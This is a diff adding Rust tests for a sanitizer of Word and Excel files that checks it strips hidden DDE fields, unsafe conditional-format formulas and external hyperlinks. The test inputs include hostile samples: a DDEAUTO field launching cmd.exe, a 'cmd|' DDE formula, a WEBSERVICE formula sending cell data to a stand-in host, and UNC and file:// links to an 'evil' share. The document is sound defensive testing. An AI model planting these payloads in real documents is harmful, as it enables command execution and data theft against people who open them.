@@ -205,6 +205,107 @@ fn a_field_that_starts_a_program_leaves_the_text_that_it_shows() {
     assert!(done.has(Reason::UnsafeField));
 }
 
+/// Word reads text boxes apart, and what is tracked as inserted or deleted goes away with a click: each of these would be `PAGE`
+/// here and `DDEAUTO` there.
+#[test]
+fn an_instruction_that_reaches_into_what_is_read_apart_is_no_instruction() {
+    let mark = |kind: &str| format!(r#"<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>"#);
+    let command = r#"DDEAUTO c:\\windows\\cmd.exe "/k calc""#;
+    let page = "<w:r><w:instrText>PAGE </w:instrText></w:r>";
+    let program = format!("<w:r><w:instrText>{command}</w:instrText></w:r>");
+    let boxed = |content: &str| {
+        format!(
+            r#"<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:textbox><w:txbxContent><w:p>{content}</w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r>"#
+        )
+    };
+    let tracked = |name: &str, content: &str| {
+        format!(r#"<w:{name} w:id="1" w:author="a" w:date="2026-01-01T00:00:00Z">{content}</w:{name}>"#)
+    };
+    let choice = format!(
+        r#"<mc:AlternateContent {MC}><mc:Choice xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml" Requires="w14">{page}</mc:Choice></mc:AlternateContent>"#
+    );
+    let shown = format!("<w:r><w:t>{}</w:t></w:r>", command.replace('"', "&quot;"));
+    for instruction in [
+        format!("{}{shown}", boxed(&format!("{page}{}", mark("separate")))),
+        format!("{}{shown}", boxed(&format!("{page}{}", mark("end")))),
+        format!("{choice}{program}"),
+        format!("{}{program}", tracked("ins", page)),
+        format!("{}{program}", tracked("del", &page.replace("instrText", "delInstrText"))),
+    ] {
+        let (_, text) = body(&format!("<w:p>{}{instruction}{}{}</w:p>", mark("begin"), mark("separate"), mark("end")));
+        let begins = text.matches(r#"fldCharType="begin""#).count();
+        assert!(begins == 0 && !text.contains("nstrText"), "{instruction}: {text}");
+    }
+}
+
+/// The clean room adds words that are shown in an instruction to it, and a place for each field within.
+#[test]
+fn both_rooms_read_the_same_instruction() {
+    let mark = |kind: &str| format!(r#"<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>"#);
+    let (begin, separate, end) = (mark("begin"), mark("separate"), mark("end"));
+    let code = |text: &str| format!("<w:r><w:instrText>{text}</w:instrText></w:r>");
+    let within = format!("{begin}{}{separate}<w:r><w:t>x</w:t></w:r>{end}", code(" REF a "));
+    for (instruction, stays) in [
+        (format!("{}{within}{}", code(" IF "), code(" = 1 ")), true),
+        (format!("{}{within}{}", code(" HYPERLINK \"http://a.example/"), code("\"")), false),
+        (format!("{within}{}", code(" PAGE ")), false),
+        (format!("{}<w:r><w:t>abc</w:t></w:r>", code("PAGE")), false),
+        (format!("{}<w:fldSimple w:instr=\" REF a \"><w:r><w:t>b</w:t></w:r></w:fldSimple>", code(" PAGE ")), true),
+    ] {
+        let (_, text) = body(&format!("<w:p>{begin}{instruction}{separate}<w:r><w:t>結果</w:t></w:r>{end}</w:p>"));
+        assert!(text.contains("結果"), "{text}");
+        assert_eq!(text.contains(r#"fldCharType="begin""#), stays, "{instruction}: {text}");
+    }
+}
+
+#[test]
+fn a_field_without_an_end_takes_no_words_with_it() {
+    let (_, text) = body(
+        r#"<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> FOO </w:instrText></w:r></w:p><w:p><w:r><w:t>本文</w:t></w:r></w:p>"#,
+    );
+    assert!(text.contains("本文") && !text.contains("FOO"), "{text}");
+}
+
+/// A colour scale computes its bounds without a click.
+#[test]
+fn a_condition_has_no_bound_that_reaches_outside() {
+    let scale = |value: &str| {
+        let (done, parts) = rebuilt(
+            &Package::workbook(&format!(
+                r#"<sheetData/><conditionalFormatting sqref="A1"><cfRule type="colorScale" priority="1"><colorScale><cfvo type="formula" val="{value}"/><cfvo type="max"/><color rgb="FFFF0000"/><color rgb="FF00FF00"/></colorScale></cfRule></conditionalFormatting>"#
+            )),
+            "a.xlsx",
+        );
+        (done, parts.text("worksheets/"))
+    };
+    let (done, text) = scale("$B$1+1");
+    assert!(text.contains("$B$1+1") && !done.has(Reason::UnsafeFormula), "{text}");
+    for value in ["cmd|'/c calc'!A0", "WEBSERVICE(&quot;http://e.example/&quot;&amp;A1)", "[1]S!A1"] {
+        let (done, text) = scale(value);
+        assert!(!text.contains("cfvo") && done.has(Reason::UnsafeFormula), "{value}: {text}");
+    }
+}
+
+#[test]
+fn a_link_inside_a_workbook_stays_in_it() {
+    let link = |location: &str| {
+        let (done, parts) = rebuilt(
+            &Package::workbook(&format!(
+                r#"<sheetData/><hyperlinks><hyperlink ref="A1" location="{location}"/></hyperlinks>"#
+            )),
+            "a.xlsx",
+        );
+        (done, parts.text("worksheets/"))
+    };
+    for location in ["Sheet1!A1", "'表 1'!$B$2", "合計"] {
+        assert!(link(location).1.contains("location="), "{location}");
+    }
+    for location in [r"'\\evil\share\[b.xlsx]S'!A1", "file://evil/x#a", "[b.xlsx]S!A1"] {
+        let (done, text) = link(location);
+        assert!(!text.contains("<hyperlink ") && done.has(Reason::UnsafeLink), "{location}: {text}");
+    }
+}
+
 #[test]
 fn marks_of_fields_that_never_began_are_left_out() {
     let (_, text) = body(
